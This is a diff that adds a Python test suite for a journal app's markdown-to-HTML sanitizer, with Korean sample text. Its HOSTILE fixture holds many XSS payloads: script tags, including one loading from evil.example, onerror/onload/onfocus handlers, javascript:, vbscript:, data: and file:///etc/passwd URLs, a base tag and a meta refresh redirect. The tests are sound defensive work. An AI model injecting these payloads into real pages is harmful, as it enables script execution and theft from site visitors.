@@ -1,0 +1,131 @@
+"""Rendered HTML carries no script in any form, and keeps everything markdown and everyday
+blog HTML need."""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+
+from journal_app.core.render import render_markdown
+
+
+class Elements(HTMLParser):
+    def __init__(self, text: str):
+        super().__init__()
+        self.found: list[tuple[str, dict]] = []
+        self.feed(text)
+
+    def handle_starttag(self, tag, attrs):
+        self.found.append((tag, dict(attrs)))
+
+    def tags(self) -> set[str]:
+        return {tag for tag, _ in self.found}
+
+    def attributes(self) -> set[str]:
+        return {name for _, attrs in self.found for name in attrs}
+
+    def urls(self) -> list[str]:
+        return [value for _, attrs in self.found for name, value in attrs.items()
+                if name in ("href", "src", "action", "formaction", "xlink:href") and value]
+
+
+HOSTILE = """# 제목
+
+<script>alert(1)</script>
+
+<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
+
+<img src=x onerror=alert(1)> <body onload=alert(1)>
+
+<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>
+
+<math><mi xlink:href="javascript:alert(1)">m</mi></math>
+
+<a href="jav&#x09;ascript:alert(1)">tab</a> <a href="JaVaScRiPt:alert(1)">case</a>
+<a href="vbscript:msgbox(1)">vb</a> <a href="data:text/html,<script>alert(1)</script>">data</a>
+
+<form action="https://evil.example"><button formaction="javascript:alert(1)">b</button>
+<input type="text" name="q" onfocus="alert(1)" autofocus></form>
+
+<object data="x.swf"></object><embed src="x.swf"><base href="https://evil.example/">
+<meta http-equiv="refresh" content="0;url=https://evil.example">
+<style>body { display: none }</style>
+<link rel="stylesheet" href="https://evil.example/x.css">
+<div style="background: url(https://evil.example/t.png); position: fixed; color: red">styled</div>
+<img src="file:///etc/passwd"> <img src="//evil.example/protocol-relative.png">
+
+[마크다운 링크](javascript:alert(1))
+
+<iframe src="https://www.youtube.com/embed/Tql60L5iUGg" allowfullscreen></iframe>
+
+끝.
+"""
+
+
+def test_no_script_survives_in_any_form():
+    html = render_markdown(HOSTILE)
+    elements = Elements(html)
+    assert not elements.tags() & {"script", "svg", "math", "form", "button", "object", "embed",
+                                  "base", "meta", "style", "link", "iframe", "body"}
+    assert not [name for name in elements.attributes() if name.startswith("on")]
+    assert "autofocus" not in elements.attributes() and "name" not in elements.attributes()
+    assert ("input", {"type": "checkbox", "disabled": ""}) in elements.found  # never a text box
+    assert not [url for url in elements.urls()
+                if re.match(r"\s*(javascript|vbscript|data|file):", url, re.IGNORECASE)]
+    assert "alert" not in html and "evil.example/x" not in html and "display: none" not in html
+    assert ("div", {"style": "color:red"}) in elements.found  # url() and position dropped
+    assert "끝." in html and "마크다운 링크" in html
+
+
+def test_iframe_becomes_a_link_to_what_it_showed():
+    html = render_markdown("앞 문단\n\n<iframe src='https://www.youtube.com/embed/abc'></iframe>\n\n뒤 문단\n")
+    assert ('<div class="embed" data-line="3"><a href="https://www.youtube.com/embed/abc">'
+            "Embedded content: https://www.youtube.com/embed/abc</a></div>") in html
+    assert "뒤 문단" in html
+
+
+def test_what_markdown_and_blog_html_need_is_kept():
+    text = """# 한글 제목
+
+| 왼쪽 | 가운데 |
+|:-----|:------:|
+| a    | b      |
+
+- [x] 끝낸 일
+- [ ] 남은 일
+
+각주[^1]와 HTML 약어.
+
+```python
+print("안녕")
+```
+
+<p align="center"><img src="../images/a.png" width="50%" alt="그림"></p>
+
+<center>가운데</center>
+
+<details open><summary>더 보기</summary>숨은 글</details>
+
+<span style="color: #c00; font-weight: bold">빨강</span> <kbd>Ctrl</kbd>+<kbd>S</kbd>
+
+[상대 링크](다른 글.md) [메일](mailto:me@example.com) <https://example.com/글>
+
+[^1]: 각주 내용
+*[HTML]: HyperText Markup Language
+"""
+    html = render_markdown(text)
+    elements = Elements(html)
+    assert ("h1", {"data-line": "1", "id": "한글-제목"}) in elements.found
+    assert ("th", {"style": "text-align:center"}) in elements.found
+    assert ("input", {"type": "checkbox", "disabled": "", "checked": ""}) in elements.found
+    assert ("sup", {"id": "fnref:1"}) in elements.found and ("li", {"id": "fn:1"}) in elements.found
+    assert ("div", {"data-line": "12", "class": "language-python highlight"}) in elements.found
+    assert ("span", {"class": "nb"}) in elements.found
+    assert ("img", {"src": "../images/a.png", "width": "50%", "alt": "그림"}) in elements.found
+    assert ("p", {"data-line": "16", "align": "center"}) in elements.found
+    assert ("details", {"data-line": "20", "open": ""}) in elements.found
+    assert {"center", "summary", "kbd"} <= elements.tags()
+    assert ("abbr", {"title": "HyperText Markup Language"}) in elements.found
+    assert ("span", {"style": "color:#c00;font-weight:bold"}) in elements.found
+    assert {"#fnref:1", "#fn:1", "다른 글.md", "mailto:me@example.com",
+            "https://example.com/글"} <= set(elements.urls())
